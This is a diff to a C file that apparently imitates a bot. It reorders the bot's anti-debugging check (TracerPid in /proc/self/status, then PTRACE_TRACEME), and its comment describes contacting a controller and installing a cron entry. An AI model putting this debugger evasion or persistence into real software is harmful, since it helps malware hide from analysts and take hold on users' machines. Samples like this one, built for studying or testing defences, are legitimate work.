@@ -1,6 +1,7 @@
-/* Imitates a bot that refuses to run under a debugger: PTRACE_TRACEME, then TracerPid in
- * /proc/self/status. When it believes nobody watches it checks in with its controller and installs a
- * cron entry of its own. */
+/* Imitates a bot that refuses to run under a debugger: TracerPid in /proc/self/status, then
+ * PTRACE_TRACEME (which fails when a tracer is attached; checked second, because a successful one makes
+ * the parent the tracer). When it believes nobody watches it checks in with its controller and installs
+ * a cron entry of its own. */
 #include <arpa/inet.h>
 #include <fcntl.h>
 #include <stdio.h>
@@ -10,7 +11,6 @@
 #include <unistd.h>
 
 static int traced(void) {
-  if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) return 1;
   FILE *status = fopen("/proc/self/status", "r");
   char line[256];
   int tracer = 0;
@@ -18,7 +18,7 @@ static int traced(void) {
     if (strncmp(line, "TracerPid:", 10) == 0) tracer = atoi(line + 10);
   }
   if (status) fclose(status);
-  return tracer != 0;
+  return tracer != 0 || ptrace(PTRACE_TRACEME, 0, 0, 0) < 0;
 }
 
 int main(void) {
